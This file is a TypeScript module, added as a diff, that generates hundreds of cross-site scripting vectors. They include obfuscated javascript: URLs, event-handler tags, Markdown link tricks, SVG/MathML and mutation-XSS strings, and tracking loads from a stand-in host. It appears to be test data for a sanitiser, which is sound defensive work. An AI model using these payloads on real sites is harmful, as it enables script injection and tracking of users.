@@ -1,0 +1,223 @@
+/**
+ * Texts that would run a script, or load something from elsewhere, where anything takes them for more than words.
+ * Made from families (tags × handlers × spellings × forms of Markdown) and from what has got through sanitisers before.
+ */
+
+/** What each would do if it ran: the page counts it. */
+const run = 'window.scriptsRan=(window.scriptsRan||0)+1'
+const quoted = run.replaceAll('"', '&quot;')
+
+const selfRunning: readonly (readonly [tag: string, handler: string, rest: string])[] = [
+  ['img', 'onerror', 'src=x'],
+  ['img', 'onload', 'src=/favicon.svg'],
+  ['svg', 'onload', ''],
+  ['body', 'onload', ''],
+  ['body', 'onpageshow', ''],
+  ['iframe', 'onload', 'src=about:blank'],
+  ['object', 'onerror', 'data=x'],
+  ['embed', 'onerror', 'src=x'],
+  ['audio', 'onerror', 'src=x'],
+  ['video', 'onerror', 'src=x'],
+  ['video', 'onloadstart', 'src=x'],
+  ['source', 'onerror', 'src=x'],
+  ['input', 'onfocus', 'autofocus'],
+  ['select', 'onfocus', 'autofocus'],
+  ['textarea', 'onfocus', 'autofocus'],
+  ['button', 'onfocus', 'autofocus'],
+  ['details', 'ontoggle', 'open'],
+  ['marquee', 'onstart', ''],
+  ['style', 'onload', ''],
+  ['link', 'onload', 'rel=stylesheet href=/x.css'],
+  ['script', 'onerror', 'src=/x.js'],
+  ['div', 'onanimationstart', 'style="animation:panel-in 1s"'],
+  ['a', 'onfocus', 'tabindex=0 autofocus href=#x id=x'],
+  ['math', 'onfocus', 'tabindex=0 autofocus'],
+  ['dialog', 'onfocus', 'open autofocus tabindex=0'],
+]
+
+/** How a tag can be written so that a filter overlooks it. */
+const spellings: readonly ((tag: string, handler: string, rest: string) => string)[] = [
+  (tag, handler, rest) => `<${tag} ${rest} ${handler}="${quoted}">`,
+  (tag, handler, rest) => `<${tag.toUpperCase()} ${rest} ${handler.toUpperCase()}='${run}'>`,
+  (tag, handler, rest) => `<${tag}/${handler}=${run.replaceAll(' ', '')} ${rest}>`,
+  (tag, handler, rest) => `<${tag}\n${rest}\n${handler}\n=\n"${quoted}"\n>`,
+  (tag, handler, rest) => `<${tag} ${rest} ${handler}="&#119;indow.scriptsRan=1">`,
+  (tag, handler, rest) => `<<${tag} ${rest} ${handler}="${quoted}"//<`,
+  (tag, handler, rest) => `"><${tag} ${rest} ${handler}="${quoted}">`,
+  (tag, handler, rest) => `<${tag}\u000c${rest}\u000c${handler}="${quoted}"`,
+]
+
+const addresses: readonly string[] = [
+  `javascript:${run}`,
+  `JaVaScRiPt:${run}`,
+  `javascript&colon;${run}`,
+  `java&Tab;script:${run}`,
+  `java&NewLine;script:${run}`,
+  `&#106;avascript:${run}`,
+  `&#x6A;avascript:${run}`,
+  `%6Aavascript:${run}`,
+  `\\x6Aavascript:${run}`,
+  `  javascript:${run}`,
+  `\u0001javascript:${run}`,
+  `javascript://%0a${run}`,
+  `javascript://example.com/%0a${run}`,
+  `vbscript:${run}`,
+  `view-source:javascript:${run}`,
+  `data:text/html,<script>${run}</script>`,
+  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==',
+  `data:image/svg+xml,<svg onload="${run}" xmlns="http://www.w3.org/2000/svg"/>`,
+  'data:application/xhtml+xml;base64,PHNjcmlwdD4xPC9zY3JpcHQ+',
+  'blob:null/0',
+  'filesystem:http://example.com/x',
+  'file:///etc/passwd',
+  '//evil.example/x',
+  '/\\evil.example/x',
+  'https:evil.example',
+  'feed:javascript:1',
+  'jar:javascript:1',
+]
+
+/** The ways in which Markdown says where something leads. */
+const forms: readonly ((address: string) => string)[] = [
+  (address) => `[x](${address})`,
+  (address) => `[x](<${address}>)`,
+  (address) => `![x](${address})`,
+  (address) => `![x](<${address}> "t")`,
+  (address) => `<${address}>`,
+  (address) => `[x]\n\n[x]: ${address}`,
+  (address) => `[x]: <${address}> "t"\n\n[![x][x]][x]`,
+  (address) => `[**[x](${address})**](${address})`,
+]
+
+/** Where a text becomes an attribute or leaves its place. */
+const attributes: readonly string[] = [
+  `[x](https://example.com "\\" onmouseover=\\"${run}")`,
+  `[x](https://example.com '" onfocus="${run}" autofocus x="')`,
+  `[x](https://example.com"onfocus="${run}"autofocus)`,
+  `![" onerror="${run}" x="](x)`,
+  `![x](https://example.com/x.png"onerror="${run})`,
+  `![x](/favicon.svg "\\"onload=\\"${run}")`,
+  `[x](https://example.com/?"><img/src=x/onerror=${run}>)`,
+  '```" onclick="' + run + '"\nx\n```',
+  '```<img src=x onerror=' + run + '>\nx\n```',
+  '`<img src=x onerror=' + run + '>`',
+  `@"><img src=x onerror=${run}>`,
+  `@ada"onfocus="${run}`,
+  `@ada<svg/onload=${run}>`,
+  `#WEB-1"><svg/onload=${run}>`,
+  `WEB-1<img src=x onerror=${run}>`,
+  `| <img src=x onerror=${run}> | b |\n|:--|--:|\n| <svg onload=${run}> | \`|\` |`,
+  `- [ ] <img src=x onerror=${run}>\n- [x] [x](javascript:${run})`,
+  `> <script>${run}</script>`,
+  `# <iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;">`,
+  `1. <object data="javascript:${run}">`,
+  `**<b onclick=${run}>**`,
+  `~~<s onpointerenter=${run}>~~`,
+  `a@"onclick=${run}//.example`,
+  `https://example.com/<img/src=x/onerror=${run}>`,
+  `http://example.com/"onmouseover="${run}`,
+  `http://a"onfocus=${run}//.example autofocus`,
+  `mailto:x@example.com?subject=<script>${run}</script>`,
+  `&lt;script&gt;${run}&lt;/script&gt;`,
+  `&#60;img src=x onerror=${run}&#62;`,
+  `\\<img src=x onerror=${run}>`,
+  `<!--><img src=x onerror=${run}>-->`,
+  `<!-- --!><img src=x onerror=${run}>`,
+  `<![CDATA[><img src=x onerror=${run}>]]>`,
+  `<?xml-stylesheet href="javascript:${run}"?>`,
+  `</title><script>${run}</script>`,
+  `</textarea><script>${run}</script>`,
+  `</script><script>${run}</script>`,
+  `{{constructor.constructor('${run}')()}}`,
+  `\${${run}}`,
+  `<base href="https://evil.example/">`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
+  `<form action="javascript:${run}"><input type=submit autofocus></form>`,
+  `<form><button formaction="javascript:${run}">x</button></form>`,
+  `<a href="javascript:${run}" id=x autofocus>x</a>`,
+  `<isindex type=image src=1 onerror=${run}>`,
+  `<link rel=import href="data:text/html,<script>${run}</script>">`,
+  `<style>@import 'https://evil.example/x.css';</style>`,
+  `<div style="background:url(https://evil.example/x)">x</div>`,
+  `<p style="width:expression(${run})">x</p>`,
+  `<img src="https://evil.example/track.png">`,
+  `<img srcset="https://evil.example/x 1x" src=x>`,
+  `<input type=image src=https://evil.example/x>`,
+  `<video poster=https://evil.example/x></video>`,
+  `![x](https://evil.example/track.png)`,
+  `![x](http://evil.example/track.png "t")`,
+  `[![x](https://evil.example/a.png)](https://evil.example/b)`,
+  `<template><img src=x onerror=${run}></template>`,
+  `<slot name="x"><img src=x onerror=${run}></slot>`,
+  `<portal src="javascript:${run}">`,
+  `<a ping="https://evil.example" href="https://evil.example">x</a>`,
+]
+
+/** SVG and MathML, in which other rules hold. */
+const foreign: readonly string[] = [
+  `<svg><script>${run}</script></svg>`,
+  `<svg><script href="data:,${run}"/></svg>`,
+  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
+  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
+  `<svg><set attributeName=onmouseover to="${run}">`,
+  `<svg><animate xlink:href=#x attributeName=href values="javascript:${run}"/><a id=x><text>x</text></a>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${run}</script></svg>#x"/>`,
+  `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></foreignObject></svg>`,
+  `<svg><image href=x onerror=${run}></svg>`,
+  `<svg><handler type="application/ecmascript">${run}</handler></svg>`,
+  `<svg><style>*{background:url(https://evil.example/x)}</style></svg>`,
+  `<svg><title><img src=x onerror=${run}></title></svg>`,
+  `<svg><desc><img src=x onerror=${run}></desc></svg>`,
+  `<math><a xlink:href="javascript:${run}">x</a></math>`,
+  `<math href="javascript:${run}">x</math>`,
+  `<math><maction actiontype=statusline xlink:href="javascript:${run}">x</maction></math>`,
+  `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
+  `<math><mi><svg><script>${run}</script></svg></mi></math>`,
+]
+
+/** What changes its meaning when it is read a second time. */
+const mutating: readonly string[] = [
+  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
+  `<math><mtext><table><mglyph><style><math><img src=x onerror=${run}></style></math></table>`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
+  `<svg><style><img src=x onerror=${run}></style></svg>`,
+  `<svg><p><style><g title="</style><img src=x onerror=${run}>">`,
+  `<math><p></p><style><!--</style><img src/onerror=${run}>--></style></math>`,
+  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${run}>">`,
+  `<table><td><svg><desc><td></desc></svg><img src=x onerror=${run}></table>`,
+  `<xmp><p title="</xmp><svg/onload=${run}>"></p></xmp>`,
+  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
+  `<plaintext><img src=x onerror=${run}>`,
+  `<noembed><img title="</noembed><img src onerror=${run}>"></noembed>`,
+  `<noframes><style></noframes><img src=x onerror=${run}></style>`,
+  `<iframe><img title="</iframe><img src onerror=${run}>"></iframe>`,
+  `<option><style></option></select><img src=x onerror=${run}></style>`,
+  `<a><table><tr><td><a><img src=x onerror=${run}></a></table>`,
+  `<svg><![CDATA[</svg><img src=x onerror=${run}>]]>`,
+  `<math><![CDATA[</math><img src=x onerror=${run}>]]>`,
+  `<div id="1\n\`><img src=x onerror=${run}>\`">`,
+  `<p>\`<img src=x onerror=${run}>\n\n\`</p>`,
+  `[<img title="](x)<img src=x onerror=${run}>">](y)`,
+  `\`\`\`\n</code></pre><img src=x onerror=${run}>\n\`\`\``,
+  `<img alt="[x](" onerror=${run} src=x ")">`,
+  `[a](b "\`")<img src=x onerror=${run}>\`")`,
+]
+
+/** All of them, each once. */
+export const vectors: readonly string[] = [
+  ...new Set([
+    ...selfRunning.flatMap(([tag, handler, rest]) => spellings.map((spell) => spell(tag, handler, rest))),
+    ...addresses.flatMap((address) => forms.map((form) => form(address))),
+    ...attributes,
+    ...foreign,
+    ...mutating,
+    ...[...foreign, ...mutating].flatMap((text) => [`> ${text}`, `- ${text}`, `**${text}**`]),
+  ]),
+]
+
+/** Short ones, for names and titles. */
+export const shortVectors: readonly string[] = vectors.filter(
+  (text) => text.length <= 60 && ![...text].some((sign) => sign < ' '),
+)
